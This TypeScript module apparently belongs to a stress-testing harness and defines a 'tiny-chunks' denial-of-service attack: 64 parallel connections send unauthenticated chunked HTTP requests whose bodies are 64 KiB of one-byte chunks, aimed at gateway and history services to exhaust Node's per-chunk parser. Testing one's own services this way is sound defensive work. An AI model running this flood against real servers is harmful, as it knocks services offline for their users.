import type { Attack } from "../attack.ts";
import { repeated } from "../attacker/frames.ts";

const CONNECTIONS = 64;
const WRITE_BYTES = 65_536;
const CHUNKS = repeated(Buffer.from("1\r\nx\r\n"), WRITE_BYTES);
const HEADS = ["POST /send", "GET /sync"].map((line) =>
  Buffer.from(`${line} HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n`),
);

/** Node's parser calls JavaScript for each chunk of all that has arrived. Nobody needs a token to send chunks. */
export const tinyChunks: Attack = {
  name: "tiny-chunks",
  title: "requests without a token whose bodies are 64 KiB of chunks of one byte, each on a new connection",
  shapes: ["split", "standalone"],
  perSecond: 200,
  unit: "requests",
  run: (attacker) =>
    attacker.inParallel(CONNECTIONS, async (index) => {
      const [toGateway, toHistory] = HEADS.map((head) => Buffer.concat([head, CHUNKS]));
      const isOdd = index % 2 === 1;
      while (await attacker.turn()) {
        const socket = await attacker.open(isOdd ? attacker.history : attacker.gateway);
        const request = isOdd ? toHistory : toGateway;
        if (!socket || !request) continue;
        socket.write(request);
        await attacker.answered(socket);
        socket.destroy();
      }
    }),
};
